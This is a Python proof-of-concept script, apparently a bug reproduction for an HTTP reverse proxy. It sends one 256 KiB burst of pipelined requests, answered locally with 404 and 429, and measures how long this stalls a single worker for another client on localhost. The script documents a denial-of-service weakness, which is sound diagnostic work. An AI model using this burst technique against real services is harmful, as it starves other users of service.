"""One client connection pipelining locally answered requests (404 here; 429s under a rate
limit behave the same) holds its worker's loop for hundreds of ms per read: `_read` takes up to
SHARED_BUFFER_SIZE (256 KiB) when no exchange runs, and `serve_buffered` answers every head in
it in one go (~9,700 heads of 27 bytes).  Every other connection of that worker waits.  The
victim here sends one request to a working route right after the attacker's single write."""
import socket, threading, time
from h import Backend, recv_head, start_proxy

def script(s, rec):
    buf = bytearray()
    while True:
        try:
            head, buf = recv_head(s, rec, buf)
        except Exception:
            return
        s.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")

be = Backend(script)
p = start_proxy([{"path": "/api", "to": f"http://127.0.0.1:{be.port}/api"}], workers=1,
                limits={"per_client": {"requests": {"rate": 10, "burst": 10}}})

def one_request(s):
    t = time.time()
    s.sendall(b"GET /api HTTP/1.1\r\nHost: a\r\n\r\n")
    d = b""
    while not d.endswith(b"ok"):
        d += s.recv(1000)
    return (time.time() - t) * 1000

victim = socket.create_connection(("127.0.0.1", p.port), source_address=("127.0.0.2", 0))
victim.settimeout(10)
print("victim latency before: %.1f ms" % one_request(victim))
for path in (b"/nothing-routes-here", b"/api"):      # 404s; then 429s (rate limit 10/s)
    req = b"GET " + path + b" HTTP/1.1\r\nHost: a\r\n\r\n"
    burst = req * (256 * 1024 // len(req))
    a = socket.create_connection(("127.0.0.1", p.port))
    counts = {"n": 0}
    def drain():
        buf = b""
        a.settimeout(10)
        try:
            while True:
                d = a.recv(1 << 20)
                if not d:
                    break
                counts["n"] += d.count(b"HTTP/1.1 ")
        except Exception:
            pass
    th = threading.Thread(target=drain, daemon=True); th.start()
    a.sendall(burst)          # one write: ~256 KiB, %d heads
    time.sleep(0.02)          # the worker has read it
    lat = one_request(victim)
    time.sleep(1.5)
    print("attacker pipelined %d heads to %s in one write; answered %d; victim's request meanwhile took %.1f ms"
          % (len(burst) // len(req), path.decode(), counts["n"], lat))
    a.close()
    time.sleep(1.1)
